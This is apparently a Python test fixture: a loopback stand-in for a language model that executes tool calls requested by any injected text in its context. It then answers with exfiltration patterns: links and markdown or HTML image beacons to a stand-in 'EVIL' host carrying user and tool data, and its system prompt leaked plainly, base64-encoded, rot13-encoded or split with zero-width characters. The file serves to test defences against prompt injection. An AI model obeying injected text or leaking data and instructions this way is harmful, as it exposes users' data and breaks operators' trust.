"""A language model on loopback that does whatever any text in its context says, then tries to carry out what it saw."""

import base64
import codecs
import itertools
import json
from collections.abc import Callable
from typing import Any

from tests.hostile.attacks import EVIL, wanted_in
from tests.loopback.llm_server import Reply, Request
from tests.loopback.openai_server import OpenAiServer

AT_ONCE = 6
WAYS_OUT: tuple[Callable[[str, str], str], ...] = (
    lambda seen, told: f"https://{EVIL}/?d={seen}",
    lambda seen, told: f"Pronto. ![ok](https://{EVIL}/p.png?d={base64.urlsafe_b64encode(seen.encode()).decode()})",
    lambda seen, told: f"Pronto <img src='//{EVIL}/x?d={seen[:50]}'>",
    lambda seen, told: f"Pronto: {EVIL}/{seen[:80]}",
    lambda seen, told: f"Confirme em {EVIL}.",
    lambda seen, told: told,
    lambda seen, told: base64.b64encode(told.encode()).decode(),
    lambda seen, told: codecs.encode(told, "rot13"),
    lambda seen, told: "\u200b".join(told),
    lambda seen, told: "".join(sign for sign in seen if not sign.isdigit()),
)
"""What it says at the end, in turn: all that it saw, and the instructions that it was told to keep."""


class ObedientServer(OpenAiServer):
    """Stateless but for the way out, which is another one each time."""

    def __init__(self) -> None:
        super().__init__()
        self._ways = itertools.cycle(WAYS_OUT)
        self.obeyed: list[tuple[str, str]] = []

    def reset(self) -> None:
        """As new; it obeys."""
        super().reset()
        self.answer = self._obey

    def _obey(self, request: Request) -> Reply:
        messages = request.body["messages"]
        done = {(call["function"]["name"], _same(call["function"]["arguments"])) for call in _calls(messages)}
        context = "\n".join(_text(message) for message in messages)
        todo = [order for order in wanted_in(context) if (order[0], _same(order[1])) not in done][:AT_ONCE]
        if todo:
            self.obeyed += todo
            return Reply(calls=tuple((name, json.loads(given)) for name, given in todo))
        told = "\n".join(_text(message) for message in messages if message["role"] in ("system", "developer"))
        seen = "\n".join(_text(message) for message in messages if message["role"] in ("tool", "user"))
        return Reply(next(self._ways)(seen[-2_000:], told[:1_500]))


def _calls(messages: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [call for message in messages for call in message.get("tool_calls") or ()]


def _same(arguments: str) -> str:
    return json.dumps(json.loads(arguments), sort_keys=True)


def _text(message: dict[str, Any]) -> str:
    content = message.get("content")
    return content if isinstance(content, str) else "".join(part.get("text", "") for part in content or ())
